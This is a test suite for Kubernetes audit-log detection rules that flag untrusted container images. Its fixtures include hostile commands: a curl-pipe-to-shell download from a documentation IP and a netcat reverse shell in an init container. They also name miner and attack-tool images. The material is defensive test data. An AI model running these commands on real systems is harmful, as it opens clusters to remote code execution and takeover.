import type { Settings } from '../../../lambdas/core/config/settings';
import { DEFAULT_SETTINGS } from '../../../lambdas/core/config/settings';
import type { Rule } from '../../../lambdas/core/detect/rule';
import { untrustedImageRules } from '../../../lambdas/core/rules/untrusted-image';
import { auditEvent } from '../../helpers/events';
import { controllerSA, failed, fire, plain, privileged, ruleById, severity, workloadWrite } from './support/workloads';

const rule = (id: string): Rule => ruleById(untrustedImageRules, id);

describe('image.registry-not-allowed', () => {
  const r = rule('image.registry-not-allowed');
  const allowlist: Settings = {
    ...DEFAULT_SETTINGS,
    images: { ...DEFAULT_SETTINGS.images, allowedRegistries: ['registry.example.com', '*.dkr.ecr.*.amazonaws.com'] },
  };

  it('reports images from outside the allowlist, higher when the spec is privileged', () => {
    const [hit] = fire(r, workloadWrite('deployments', plain('docker.io/attacker/miner:1')), allowlist);
    expect(hit.severity).toBe('medium');
    expect(hit.summary).toBe('alice@example.com created Deployment default/web with image docker.io/attacker/miner:1 from outside the allowed registries');
    expect(severity(r, workloadWrite('pods', privileged('a', 'nginx')), allowlist)).toBe('high');
  });

  it('checks the images a patch sets, and ephemeral containers', () => {
    const patch = [{ op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'ghcr.io/x/y:1' }];
    expect(severity(r, workloadWrite('deployments', plain(), { verb: 'patch', level: 'Request', patch }), allowlist)).toBe('medium');
    expect(fire(r, workloadWrite('deployments', plain('ghcr.io/x/y:1'), { verb: 'patch', patch: { spec: { replicas: 2 } } }), allowlist)).toEqual([]);
    const debug = auditEvent({
      level: 'Request',
      verb: 'patch',
      objectRef: { resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'prod', name: 'api-0', apiVersion: 'v1' },
      requestObject: { spec: { ephemeralContainers: [{ name: 'dbg', image: 'busybox' }] } },
    });
    expect(severity(r, debug, allowlist)).toBe('medium');
  });

  it('is quiet on near misses', () => {
    expect(fire(r, workloadWrite('deployments', plain('docker.io/attacker/miner:1')))).toEqual([]); // no allowlist set
    expect(fire(r, workloadWrite('deployments', plain('123456789012.dkr.ecr.eu-west-1.amazonaws.com/app:1')), allowlist)).toEqual([]);
    expect(fire(r, failed(workloadWrite('deployments', plain('docker.io/attacker/miner:1'))), allowlist)).toEqual([]);
    expect(fire(r, workloadWrite('pods', plain('nginx'), { user: controllerSA('replicaset-controller') }), allowlist)).toEqual([]);
  });
});

describe('image.mutable-tag', () => {
  const r = rule('image.mutable-tag');

  it('notes latest and untagged images on new workloads as low', () => {
    const [hit] = fire(
      r,
      workloadWrite('deployments', {
        containers: [
          { name: 'a', image: 'nginx' },
          { name: 'b', image: 'redis:latest' },
        ],
      }),
    );
    expect(hit.severity).toBe('low');
    expect(hit.summary).toBe('alice@example.com created Deployment default/web with mutable image tags nginx, redis:latest');
  });

  it('is quiet on near misses', () => {
    expect(fire(r, workloadWrite('deployments', plain('nginx:1.27.2')))).toEqual([]);
    expect(fire(r, workloadWrite('deployments', plain('nginx@sha256:0d17b565c37bcbd895e9d92315a05c1c3c9a29f762b011a10c54a66cd53c9b31')))).toEqual([]);
    expect(fire(r, workloadWrite('deployments', plain('nginx'), { verb: 'update' }))).toEqual([]);
    expect(fire(r, workloadWrite('pods', plain('nginx'), { user: controllerSA('replicaset-controller') }))).toEqual([]);
    const off: Settings = { ...DEFAULT_SETTINGS, images: { ...DEFAULT_SETTINGS.images, allowedRegistries: [], flagMutableTags: false } };
    expect(fire(r, workloadWrite('deployments', plain('nginx')), off)).toEqual([]);
  });
});

describe('image.fetches-code-at-start', () => {
  const r = rule('image.fetches-code-at-start');

  it('reports containers that download and run code, reverse shells as critical', () => {
    const fetcher = { containers: [{ name: 'app', image: 'alpine:3', command: ['sh', '-c', 'apk add curl && curl -fsSL https://203.0.113.9/i.sh | sh'] }] };
    const [hit] = fire(r, workloadWrite('statefulsets', fetcher));
    expect(hit.severity).toBe('high');
    expect(hit.summary).toBe('alice@example.com created StatefulSet default/web: container app downloads and runs code');
    const reverse = {
      initContainers: [{ name: 'init', image: 'alpine:3', args: ['sh', '-c', 'nc 203.0.113.9 9001 -e /bin/sh'] }],
      containers: [{ name: 'app' }],
    };
    expect(severity(r, workloadWrite('pods', reverse))).toBe('critical');
  });

  it('is quiet on near misses', () => {
    expect(fire(r, workloadWrite('deployments', { containers: [{ name: 'app', command: ['sh', '-c', 'exec /app/server --port 8080'] }] }))).toEqual([]);
    const fetcher = { containers: [{ name: 'app', command: ['sh', '-c', 'curl http://x/i | sh'] }] };
    expect(fire(r, failed(workloadWrite('deployments', fetcher)))).toEqual([]);
    expect(fire(r, workloadWrite('pods', fetcher, { user: controllerSA('job-controller') }))).toEqual([]);
  });
});

describe('image.raw-ip-registry', () => {
  const r = rule('image.raw-ip-registry');

  it('reports an image from a registry addressed by IP, high when privileged', () => {
    const [hit] = fire(r, workloadWrite('deployments', plain('203.0.113.9:5000/tools/agent:1')));
    expect(hit).toMatchObject({
      severity: 'medium',
      summary: 'alice@example.com created Deployment default/web with image 203.0.113.9:5000/tools/agent:1 from a registry addressed by IP',
      evidence: { images: [{ image: '203.0.113.9:5000/tools/agent:1', registry: '203.0.113.9:5000' }] },
    });
    expect(severity(r, workloadWrite('daemonsets', privileged('agent', '[fd00::9]:5000/agent:1')))).toBe('high');
  });

  it('is quiet for named registries, allowlisted IPs, the control plane and failed requests', () => {
    expect(fire(r, workloadWrite('deployments', plain('registry.example.com/app:1')))).toEqual([]);
    expect(fire(r, workloadWrite('deployments', plain('1.2.3/app:1')))).toEqual([]);
    const local: Settings = { ...DEFAULT_SETTINGS, images: { ...DEFAULT_SETTINGS.images, allowedRegistries: ['127.0.0.1:5000'] } };
    expect(fire(r, workloadWrite('deployments', plain('127.0.0.1:5000/app:1')), local)).toEqual([]);
    expect(fire(r, workloadWrite('pods', plain('203.0.113.9/app:1'), { user: controllerSA('replicaset-controller') }))).toEqual([]);
    expect(fire(r, failed(workloadWrite('pods', plain('203.0.113.9/app:1'))))).toEqual([]);
  });
});

describe('image.offensive-tool', () => {
  const r = rule('image.offensive-tool');

  it('reports images of attack tooling by repository, last segment or account, critical when privileged', () => {
    const [hit] = fire(r, workloadWrite('pods', plain('kalilinux/kali-rolling:latest')));
    expect(hit).toMatchObject({
      severity: 'high',
      summary: 'alice@example.com created Pod default/web with attack tooling image kalilinux/kali-rolling:latest',
      evidence: { images: ['kalilinux/kali-rolling:latest'] },
    });
    expect(severity(r, workloadWrite('deployments', plain('ghcr.io/someone/XMRig:6.21')))).toBe('high');
    expect(severity(r, workloadWrite('deployments', plain('docker.io/metasploitframework/metasploit-framework')))).toBe('high');
    expect(severity(r, workloadWrite('daemonsets', privileged('miner', 'quay.io/x/xmrig:latest')))).toBe('critical');
  });

  it('reads the list from the settings, and matches whole names only', () => {
    expect(fire(r, workloadWrite('deployments', plain('registry.example.com/xmrig-exporter:1')))).toEqual([]);
    expect(fire(r, workloadWrite('deployments', plain('registry.example.com/chiseled/app:1')))).toEqual([]);
    expect(fire(r, workloadWrite('deployments', plain('kalilinuxfan/app:1')))).toEqual([]);
    const none: Settings = { ...DEFAULT_SETTINGS, images: { ...DEFAULT_SETTINGS.images, offensiveTools: [] } };
    expect(fire(r, workloadWrite('pods', plain('kalilinux/kali-rolling')), none)).toEqual([]);
    const own: Settings = { ...DEFAULT_SETTINGS, images: { ...DEFAULT_SETTINGS.images, offensiveTools: ['redteam/*'] } };
    expect(severity(r, workloadWrite('pods', plain('redteam/implant:2')), own)).toBe('high');
  });

  it('is quiet on near misses', () => {
    expect(fire(r, failed(workloadWrite('pods', plain('kalilinux/kali-rolling'))))).toEqual([]);
    expect(fire(r, workloadWrite('pods', plain('kalilinux/kali-rolling'), { user: controllerSA('replicaset-controller') }))).toEqual([]);
  });
});

describe('image.registry-changed', () => {
  const r = rule('image.registry-changed');
  const applied = (image: string) => ({
    annotations: {
      'kubectl.kubernetes.io/last-applied-configuration': JSON.stringify({
        apiVersion: 'apps/v1',
        kind: 'Deployment',
        metadata: { name: 'web', namespace: 'default' },
        spec: { template: { spec: { containers: [{ name: 'app', image }] } } },
      }),
    },
  });
  const setImage = (image: string, was: string, extra: { level?: 'Request' | 'RequestResponse'; user?: Record<string, unknown> } = {}) =>
    workloadWrite('deployments', plain(image), {
      verb: 'patch',
      patch: { spec: { template: { spec: { containers: [{ name: 'app', image }] } } } },
      metadata: applied(was),
      ...extra,
    });

  it('reports `kubectl set image` moving a container to another registry, high when the new one is untrusted', () => {
    const [hit] = fire(r, setImage('registry.evil.example/app:1.2', 'registry.example.com/app:1.2'));
    expect(hit).toMatchObject({
      severity: 'medium',
      summary: 'alice@example.com patched Deployment default/web: app registry.example.com/app:1.2 -> registry.evil.example/app:1.2',
      evidence: { moved: [{ container: 'app', from: 'registry.example.com/app:1.2', to: 'registry.evil.example/app:1.2' }], untrusted: false },
    });
    expect(severity(r, setImage('198.51.100.4/app:1.2', 'registry.example.com/app:1.2'))).toBe('high');
  });

  it('is quiet when the registry stays, nothing was applied before, the response was not logged, or the controller did it', () => {
    expect(fire(r, setImage('registry.example.com/app:1.3', 'registry.example.com/app:1.2'))).toEqual([]);
    expect(fire(r, workloadWrite('deployments', plain('registry.evil.example/app:1'), { verb: 'update' }))).toEqual([]);
    expect(fire(r, setImage('registry.evil.example/app:1.2', 'registry.example.com/app:1.2', { level: 'Request' }))).toEqual([]);
    expect(fire(r, setImage('registry.evil.example/app:1.2', 'registry.example.com/app:1.2', { user: controllerSA('deployment-controller') }))).toEqual([]);
    const broken = workloadWrite('deployments', plain('registry.evil.example/app:1'), {
      verb: 'update',
      metadata: { annotations: { 'kubectl.kubernetes.io/last-applied-configuration': '{not json' } },
    });
    expect(fire(r, broken)).toEqual([]);
  });
});
